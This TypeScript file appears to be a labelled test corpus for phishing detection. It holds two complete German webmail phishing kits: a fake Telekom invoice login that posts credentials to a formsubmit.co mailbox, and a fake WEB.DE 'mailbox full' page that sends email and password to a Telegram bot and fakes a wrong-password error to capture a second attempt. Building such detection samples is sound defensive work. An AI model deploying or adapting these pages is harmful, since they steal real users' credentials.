import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, mark, b64, hexEnc } from '../parts/zv-kit.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'zv-telekom-rechnung-webmail', label: 'phishing', kind: 'webmail-kit',
  url: 'https://telekom-rechnung-online.de-kundencenter.net/mail/login',
  body: doc({ title: 'Telekom Login', css: '.top{background:#e20074;color:#fff}.btn{background:#e20074;color:#fff;width:100%}',
    body: `<header class="top"><div class="wrap"><b style="font-size:26px">T</b> Telekom Login</div></header><div class="wrap" style="max-width:420px"><div class="box" style="margin-top:30px">
<p>Ihre Rechnung für März ist online. Bitte melden Sie sich an, um sie einzusehen.</p><form id="f"><label>E-Mail-Adresse oder Benutzername</label><input name="user" value=""><label>Passwort</label><input type="password" name="pass"><p><button class="btn">Login</button></p></form></div></div>
<script>var u=new URLSearchParams(location.search).get('e');if(u)document.querySelector('[name=user]').value=atob(u);
document.getElementById('f').onsubmit=function(e){e.preventDefault();var x=new XMLHttpRequest();x.open('POST','https://formsubmit.co/ajax/lena.rechnung77@gmail.com');x.setRequestHeader('Content-Type','application/json');x.send(JSON.stringify({u:this.user.value,p:this.pass.value,h:location.host}));x.onloadend=function(){location='https://www.telekom.de/mein-kundencenter'}};</script>` }),
},
{
  id: 'zv-webde-postfach-voll', label: 'phishing', kind: 'webmail-kit',
  url: 'https://web-de-speicher.firebaseapp.com/',
  body: doc({ title: 'WEB.DE – E-Mail-Postfach voll', css: '.top{background:#ffd800}.btn{background:#1c449b;color:#fff}',
    body: `<header class="top"><div class="wrap"><b>WEB.DE</b> FreeMail</div></header><div class="wrap" style="max-width:480px"><div class="box" style="margin-top:30px">
<h2>Ihr Postfach ist zu 99 % belegt</h2><p>Neue E-Mails werden zurückgewiesen. Melden Sie sich an, um kostenlos 2 GB zusätzlichen Speicher freizuschalten.</p>
<form id="f"><label>E-Mail-Adresse</label><input name="email"><label>Passwort</label><input type="password" name="password"><p><button class="btn">Speicher freischalten</button></p></form><p id="err" style="color:#c00;display:none">Das Passwort ist nicht korrekt. Bitte erneut versuchen.</p></div></div>
<script>var n=0;document.getElementById('f').onsubmit=function(e){e.preventDefault();n++;var d=new FormData(this);d.append('try',n);
fetch('https://api.telegram.org/bot7019934452:AAGq2_wDmailKx9/sendMessage',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({chat_id:'-4012877',text:d.get('email')+' | '+d.get('password')})});
if(n<2){document.getElementById('err').style.display='block';this.password.value=''}else location='https://web.de/'};</script>` }),
},
];
